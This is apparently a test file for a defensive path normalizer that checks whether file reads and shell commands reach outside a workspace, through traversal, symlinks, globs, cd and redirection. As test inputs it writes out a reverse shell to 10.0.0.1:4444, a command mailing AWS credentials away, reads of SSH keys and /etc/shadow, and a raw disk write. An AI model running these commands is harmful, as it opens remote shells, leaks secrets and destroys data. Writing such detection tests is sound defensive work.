import nodeFs from 'node:fs';
import os from 'node:os';
import nodePath from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HOME, WORKSPACE, command, memoryFileSystem, normalize } from './fixtures';
import { normalizeAction } from './normalize';
import type { NormalizedPath } from './types';

const read = (path: string, options: Parameters<typeof normalize>[1] = {}) =>
  normalize({ type: 'read_file', path }, options).paths;
const forms = (paths: NormalizedPath[]) => paths.map((p) => [p.relative, p.absolute, p.outsideWorkspace]);

describe('lexical normalization', () => {
  it.each([
    ['config/.env', '.env'.replace(/^/, 'config/')],
    ['config/../.env', '.env'],
    ['./config//../.env', '.env'],
    ['config/./../.env', '.env'],
    ['config\\..\\.env', '.env'],
    ['config\\.env', 'config/.env'],
    ['a/b/../../.env', '.env'],
    [`${WORKSPACE}/config/.env`, 'config/.env'],
    [`${WORKSPACE}//config/../.env`, '.env'],
    [`${WORKSPACE}/src/`, 'src'],
    ['.', '.'],
    [`file://${WORKSPACE}/config/.env`, 'config/.env'],
    [`file://${WORKSPACE}/my%20dir/.env`, 'my dir/.env'],
  ])('%s → %s', (path, relative) => {
    const [first] = read(path);
    expect(first?.relative).toBe(relative);
    expect(first?.absolute).toBe(relative === '.' ? WORKSPACE : `${WORKSPACE}/${relative}`);
    expect(first?.outsideWorkspace).toBe(false);
  });

  it.each([
    ['~/.ssh/id_rsa', `${HOME}/.ssh/id_rsa`],
    ['~', HOME],
    ['~/.aws/credentials', `${HOME}/.aws/credentials`],
    ['~root/.ssh/id_rsa', '/root/.ssh/id_rsa'],
    ['~alice/.ssh/id_rsa', '/home/alice/.ssh/id_rsa'],
    ['../../etc/passwd', '/etc/passwd'],
    ['/etc/../etc/shadow', '/etc/shadow'],
    [`${WORKSPACE}/../other/.env`, '/work/other/.env'],
    [`${WORKSPACE}-evil/.env`, '/work/app-evil/.env'],
  ])('%s leaves the workspace → %s', (path, absolute) => {
    const [first] = read(path);
    expect(first?.absolute).toBe(absolute);
    expect(first?.relative).toBeNull();
    expect(first?.outsideWorkspace).toBe(true);
  });

  it('expands $HOME and ${HOME} in commands like ~', () => {
    for (const text of [
      'cat $HOME/.ssh/id_rsa',
      'cat ${HOME}/.ssh/id_rsa',
      'cat "$HOME/.ssh/id_rsa"',
      'cat ~/.ssh/id_rsa',
    ]) {
      expect(command(text).paths.map((p) => p.absolute)).toEqual([`${HOME}/.ssh/id_rsa`]);
    }
  });

  it('reads Windows drive paths as absolute', () => {
    const [first] = read('C:\\Users\\dev\\.ssh\\..\\.aws\\credentials');
    expect(first?.absolute).toBe('C:/Users/dev/.aws/credentials');
    expect(first?.outsideWorkspace).toBe(true);
  });
});

describe('without a cwd', () => {
  it('keeps the relative form and resolves against a placeholder', () => {
    const [first] = read('config/../.env', { cwd: null });
    expect(first?.relative).toBe('.env');
    expect(first?.absolute).toBe('/unknown-workspace/.env');
    expect(first?.outsideWorkspace).toBe(false);
    expect(normalize({ type: 'read_file', path: 'x' }, { cwd: null }).workspace).toBeNull();
  });

  it('treats absolute paths and climbing paths as outside', () => {
    expect(forms(read('/etc/passwd', { cwd: null }))).toEqual([[null, '/etc/passwd', true]]);
    expect(forms(read('../../etc/passwd', { cwd: null }))).toEqual([[null, '/etc/passwd', true]]);
  });

  it('reports a relative cwd', () => {
    const normalized = normalize({ type: 'read_file', path: '.env' }, { cwd: 'relative/dir' });
    expect(normalized.workspace).toBeNull();
    expect(normalized.problems.map((p) => p.code)).toEqual(['unsupported']);
  });
});

describe('symlinks', () => {
  const fs = memoryFileSystem({
    [`${HOME}/.ssh/id_rsa`]: 'KEY',
    [`${WORKSPACE}/notes.txt`]: { link: `${HOME}/.ssh/id_rsa` },
    [`${WORKSPACE}/keys`]: { link: `${HOME}/.ssh` },
    [`${WORKSPACE}/relative`]: { link: '../../home/dev/.ssh/id_rsa' },
    [`${WORKSPACE}/dangling`]: { link: `${HOME}/.aws/credentials` },
    [`${WORKSPACE}/chain`]: { link: `${WORKSPACE}/notes.txt` },
    [`${WORKSPACE}/src/index.ts`]: '',
    [`${WORKSPACE}/loop`]: { link: `${WORKSPACE}/loop` },
  });

  it.each([
    ['notes.txt', `${HOME}/.ssh/id_rsa`],
    ['keys/id_rsa', `${HOME}/.ssh/id_rsa`],
    ['relative', `${HOME}/.ssh/id_rsa`],
    ['chain', `${HOME}/.ssh/id_rsa`],
    ['dangling', `${HOME}/.aws/credentials`],
    ['keys/new_key', `${HOME}/.ssh/new_key`],
  ])('%s is judged as its target %s too', (path, target) => {
    const paths = read(path, { fs });
    expect(paths[0]).toMatchObject({ relative: path, outsideWorkspace: false });
    expect(paths[1]).toMatchObject({
      absolute: target,
      relative: null,
      outsideWorkspace: true,
      linkedFrom: `${WORKSPACE}/${path}`,
    });
  });

  it('adds nothing for plain files, missing files and link loops', () => {
    expect(read('src/index.ts', { fs })).toHaveLength(1);
    expect(read('src/missing.ts', { fs })).toHaveLength(1);
    expect(read('loop', { fs })).toHaveLength(1);
  });

  it('treats a workspace reached through a symlinked cwd as the same workspace', () => {
    const linked = memoryFileSystem({ '/real/app/.env': 'X', '/links/app': { link: '/real/app' } });
    const paths = read('.env', { fs: linked, cwd: '/links/app' });
    expect(paths).toHaveLength(1);
    expect(paths[0]?.relative).toBe('.env');
  });

  it('is purely lexical without a file-system probe', () => {
    expect(read('notes.txt', { fs: null })).toHaveLength(1);
  });

  it('follows symlinks in command arguments', () => {
    const paths = command('cat notes.txt', { fs }).paths;
    expect(paths.map((p) => p.absolute)).toEqual([`${WORKSPACE}/notes.txt`, `${HOME}/.ssh/id_rsa`]);
  });
});

// The same links on the real file system, where a path's real location is found with one
// lstat and its parent's (resolved once per action) rather than a realpath per path.
describe('symlinks on the real file system', () => {
  let root: string;
  const home = () => nodePath.join(root, 'home');
  const workspace = () => nodePath.join(root, 'work', 'app');
  const real = (path: string) => {
    const paths = normalizeAction({ type: 'read_file', path, cwd: workspace() }, { home: home() }).paths;
    return paths.map((entry) => [entry.absolute, entry.outsideWorkspace, entry.linkedFrom ?? null]);
  };
  beforeAll(() => {
    root = nodeFs.realpathSync(nodeFs.mkdtempSync(nodePath.join(os.tmpdir(), 'cavra-links-')));
    nodeFs.mkdirSync(nodePath.join(home(), '.ssh'), { recursive: true });
    nodeFs.writeFileSync(nodePath.join(home(), '.ssh', 'id_rsa'), 'KEY');
    nodeFs.mkdirSync(nodePath.join(workspace(), 'src'), { recursive: true });
    nodeFs.writeFileSync(nodePath.join(workspace(), 'src', 'index.ts'), '');
    nodeFs.symlinkSync(nodePath.join(home(), '.ssh', 'id_rsa'), nodePath.join(workspace(), 'notes.txt'));
    nodeFs.symlinkSync(nodePath.join(home(), '.ssh'), nodePath.join(workspace(), 'keys'));
    nodeFs.symlinkSync(nodePath.join(workspace(), 'keys'), nodePath.join(workspace(), 'src', 'deeper'));
    nodeFs.symlinkSync(nodePath.join(home(), '.aws', 'credentials'), nodePath.join(workspace(), 'dangling'));
    nodeFs.symlinkSync(nodePath.join(root, 'work'), nodePath.join(root, 'linked-work'));
  });
  afterAll(() => nodeFs.rmSync(root, { recursive: true, force: true }));

  it.each([
    ['notes.txt', '.ssh/id_rsa'],
    ['keys/id_rsa', '.ssh/id_rsa'],
    ['keys/new_key', '.ssh/new_key'],
    ['src/deeper/id_rsa', '.ssh/id_rsa'],
    ['src/deeper/missing/deep/file', '.ssh/missing/deep/file'],
    ['dangling', '.aws/credentials'],
  ])('%s is judged as its target ~/%s too', (path, target) => {
    expect(real(path)).toEqual([
      [nodePath.join(workspace(), path), false, null],
      [nodePath.join(home(), target), true, nodePath.join(workspace(), path)],
    ]);
  });

  it('adds nothing for plain and missing files, in the workspace or reached through a linked cwd', () => {
    expect(real('src/index.ts')).toEqual([[nodePath.join(workspace(), 'src', 'index.ts'), false, null]]);
    expect(real('src/missing/x.ts')).toEqual([[nodePath.join(workspace(), 'src', 'missing', 'x.ts'), false, null]]);
    const linked = normalizeAction(
      { type: 'read_file', path: 'keys/id_rsa', cwd: nodePath.join(root, 'linked-work', 'app') },
      { home: home() },
    ).paths;
    expect(linked.map((entry) => [entry.relative, entry.absolute])).toEqual([
      ['keys/id_rsa', nodePath.join(root, 'linked-work', 'app', 'keys', 'id_rsa')],
      [null, nodePath.join(home(), '.ssh', 'id_rsa')],
    ]);
  });
});

describe('globs', () => {
  const fs = memoryFileSystem({
    [`${WORKSPACE}/.env`]: 'X',
    [`${WORKSPACE}/.env.local`]: 'X',
    [`${WORKSPACE}/README.md`]: '',
    [`${WORKSPACE}/config/prod.pem`]: '',
    [`${WORKSPACE}/config/dev.pem`]: '',
    [`${WORKSPACE}/weird[1].txt`]: '',
  });

  it('expands a glob against the file system as bash would', () => {
    const paths = command('cat .en*', { fs }).paths;
    expect(paths.filter((p) => !p.pattern).map((p) => p.relative)).toEqual(['.env', '.env.local']);
    // Judged by what it matches: the pattern itself is no subject once every match is known.
    expect(paths.some((p) => p.pattern)).toBe(false);
    // A glob matching nothing is passed on as a name, and judged as every protected name it could be.
    expect(command('cat .ss?/id_*', { fs }).paths.find((p) => p.pattern)?.relative).toBe('.ss?/id_*');
  });

  it('matches dot files only when the pattern asks, or dotglob is set', () => {
    expect(
      command('cat *', { fs })
        .paths.filter((p) => !p.pattern)
        .map((p) => p.relative),
    ).toEqual(['README.md', 'config', 'weird[1].txt']);
    const dotglob = command('shopt -s dotglob; cat *', { fs })
      .paths.filter((p) => !p.pattern)
      .map((p) => p.relative);
    expect(dotglob).toContain('.env');
  });

  it.each([
    ['cat config/*.pem', ['config/prod.pem', 'config/dev.pem']],
    ['cat */prod.pem', ['config/prod.pem']],
    ['cat .e?v', ['.env']],
    ['cat .[e]nv', ['.env']],
    ['cat .[!x]nv', ['.env']],
    ['cat .@(env|npmrc)', ['.env', '.env.local']],
    ['cat .[[:alpha:]]nv', ['.env']],
    ['cat .[[:lower:][:digit:]]nv', ['.env']],
    ['cat .[]e]nv', ['.env']],
    ['cat .\\e[n]v', ['.env']],
    ['cat weird[[]1].txt', ['weird[1].txt']],
  ])('%s', (text, expected) => {
    const matches = command(text, { fs })
      .paths.filter((p) => !p.pattern)
      .map((p) => p.relative);
    expect(matches.sort()).toEqual([...expected].sort());
  });

  it('expands the files a for loop walks, whatever quoting the body uses', () => {
    const paths = command('for f in .en*; do cat "$f"; done', { fs }).paths.map((p) => p.relative);
    expect(paths).toEqual(['.env', '.env.local']);
  });

  it('globs an unquoted variable again, as bash does', () => {
    const paths = command(`X='.en*'; cat $X`, { fs })
      .paths.filter((p) => !p.pattern)
      .map((p) => p.relative);
    expect(paths).toEqual(['.env', '.env.local']);
    expect(command(`X='.en*'; cat "$X"`, { fs }).paths.map((p) => p.relative)).toEqual(['.en*']);
  });

  it('reports a glob that cannot be expanded', () => {
    expect(command('cat .en*', { fs: null }).problems.map((p) => p.code)).toEqual(['unsupported']);
    expect(command('cat .en*', { fs, cwd: null }).problems.map((p) => p.code)).toEqual(['unsupported']);
  });

  it('does not expand quoted glob characters', () => {
    const paths = command(`cat '.en*'`, { fs }).paths;
    expect(paths.map((p) => p.relative)).toEqual(['.en*']);
    expect(paths[0]?.pattern).toBeUndefined();
  });
});

describe('relative paths after cd', () => {
  it('judges relative paths against every directory the script may be in', () => {
    const paths = command('cd ~/.ssh && cat id_rsa').paths.map((p) => p.absolute);
    expect(paths).toContain(`${HOME}/.ssh/id_rsa`);
    expect(paths).toContain(`${WORKSPACE}/id_rsa`);
    expect(command('cd; cat .aws/credentials').paths.map((p) => p.absolute)).toContain(`${HOME}/.aws/credentials`);
    expect(command('cd /etc; cd ..; cat etc/shadow').paths.map((p) => p.absolute)).toContain('/etc/shadow');
    expect(command('pushd /tmp && rm -rf x').paths.map((p) => p.absolute)).toContain('/tmp/x');
  });

  it('reports relative paths after a cd to a directory known only at run time', () => {
    expect(command('cd "$(mktemp -d)" && cat x').problems.map((p) => p.code)).toContain('unsupported');
    expect(command('cd "$(mktemp -d)" && ls').problems).toEqual([]);
  });

  it('takes $PWD after a cd as every directory the script may be in, as `.`', () => {
    expect(command('cat $PWD/.env').paths.map((p) => p.relative)).toEqual(['.env']);
    const after = command('cd /tmp; cat $PWD/.env').paths.map((p) => p.absolute);
    expect(after).toContain(`${WORKSPACE}/.env`);
    expect(after).toContain('/tmp/.env');
    expect(command('cd .. && rm -rf "$OLDPWD"').paths.map((p) => p.spans)).toContain('workspace');
    expect(command('cd "$(mktemp -d)" && cat $PWD/.env').problems.map((p) => p.code)).toContain('unsupported');
  });
});

describe('redirections', () => {
  it.each([
    ['echo x > out.txt', 'out.txt', 'write', 'echo'],
    ['echo x >> out.txt', 'out.txt', 'write', 'echo'],
    ['echo x >| out.txt', 'out.txt', 'write', 'echo'],
    ['echo x &> out.txt', 'out.txt', 'write', 'echo'],
    ['echo x &>> out.txt', 'out.txt', 'write', 'echo'],
    ['make 2> err.log', 'err.log', 'write', 'make'],
    ['echo x >& out.txt', 'out.txt', 'write', 'echo'],
    ['cat < .env', '.env', 'read', 'cat'],
    ['mail x@y < ~/.aws/credentials', null, 'read', 'mail'],
    ['> truncated.txt', 'truncated.txt', 'write', null],
    ['{ a; b; } > both.txt', 'both.txt', 'write', null],
  ])('%s', (text, relative, access, via) => {
    const path = command(text).paths.find((p) => p.access === access && p.source === 'command');
    expect(path?.relative).toBe(relative);
    expect(path?.via).toBe(via);
  });

  it('reads and writes with <>', () => {
    expect(
      command('exec 3<> .env')
        .paths.map((p) => p.access)
        .sort(),
    ).toEqual(['read', 'write']);
  });

  it('ignores descriptors and harmless devices', () => {
    expect(command('make 2>&1 >/dev/null | tee /dev/stderr 2>/dev/null <&0').paths).toEqual([]);
  });

  it('keeps devices that carry data', () => {
    expect(command('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').paths.map((p) => p.absolute)).toContain(
      '/dev/tcp/10.0.0.1/4444',
    );
    expect(command('echo x > /dev/sda').paths.map((p) => p.absolute)).toContain('/dev/sda');
  });

  it('reports a redirection target known only at run time', () => {
    expect(command('echo x > "$OUT"').problems.map((p) => p.code)).toContain('unsupported');
  });
});
